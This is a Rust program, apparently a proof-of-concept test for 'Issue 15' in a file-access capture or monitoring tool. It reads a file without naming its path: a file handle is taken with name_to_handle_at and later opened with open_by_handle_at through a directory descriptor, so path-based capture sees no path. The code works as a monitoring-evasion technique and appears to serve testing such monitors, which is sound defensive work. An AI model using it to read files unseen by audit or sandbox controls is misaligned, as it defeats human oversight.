//! Issue 15 attack: read a file without naming it: `open_by_handle_at` (needs
//! CAP_DAC_READ_SEARCH) with a handle from `name_to_handle_at`.
//!
//! `attack_handle_open handle PATH` prints the handle (`TYPE:HEX`, no file opened);
//! `attack_handle_open open MOUNTDIR TYPE:HEX` opens it through a descriptor of MOUNTDIR
//! (any directory on the same filesystem) and prints the first line read. Run the first
//! before the capture and only the second under it: the capture then sees no path at all.
use std::ffi::CString;

#[repr(C)]
struct Handle {
    bytes: u32,
    kind: i32,
    data: [u8; 128],
}

fn main() {
    let args: Vec<String> = std::env::args().collect();
    match args.get(1).map(String::as_str) {
        Some("handle") => {
            let path = CString::new(args[2].clone()).unwrap();
            let mut h = Handle {
                bytes: 128,
                kind: 0,
                data: [0; 128],
            };
            let mut mount_id = 0i32;
            // SAFETY: h has room for 128 bytes of handle, as its `bytes` says.
            let r = unsafe {
                libc::syscall(
                    libc::SYS_name_to_handle_at,
                    libc::AT_FDCWD,
                    path.as_ptr(),
                    &mut h as *mut Handle,
                    &mut mount_id as *mut i32,
                    0,
                )
            };
            assert_eq!(
                r,
                0,
                "name_to_handle_at: {}",
                std::io::Error::last_os_error()
            );
            let hex: String = h.data[..h.bytes as usize]
                .iter()
                .map(|b| format!("{b:02x}"))
                .collect();
            println!("{}:{hex}", h.kind);
        }
        Some("open") => {
            let dir = CString::new(args[2].clone()).unwrap();
            let (kind, hex) = args[3].split_once(':').expect("TYPE:HEX");
            let mut h = Handle {
                bytes: (hex.len() / 2) as u32,
                kind: kind.parse().unwrap(),
                data: [0; 128],
            };
            for i in 0..h.bytes as usize {
                h.data[i] = u8::from_str_radix(&hex[2 * i..2 * i + 2], 16).unwrap();
            }
            // SAFETY: plain syscalls on valid C strings and a filled handle.
            let mfd = unsafe { libc::open(dir.as_ptr(), libc::O_RDONLY | libc::O_DIRECTORY) };
            assert!(
                mfd >= 0,
                "open {}: {}",
                args[2],
                std::io::Error::last_os_error()
            );
            let fd = unsafe {
                libc::syscall(
                    libc::SYS_open_by_handle_at,
                    mfd,
                    &h as *const Handle,
                    libc::O_RDONLY,
                )
            } as i32;
            assert!(
                fd >= 0,
                "open_by_handle_at: {}",
                std::io::Error::last_os_error()
            );
            let mut buf = [0u8; 256];
            let n = unsafe { libc::read(fd, buf.as_mut_ptr().cast(), buf.len()) };
            let text = String::from_utf8_lossy(&buf[..n.max(0) as usize]).into_owned();
            println!(
                "read through a handle: {}",
                text.lines().next().unwrap_or("")
            );
        }
        _ => panic!("usage: attack_handle_open handle PATH | open MOUNTDIR TYPE:HEX"),
    }
}
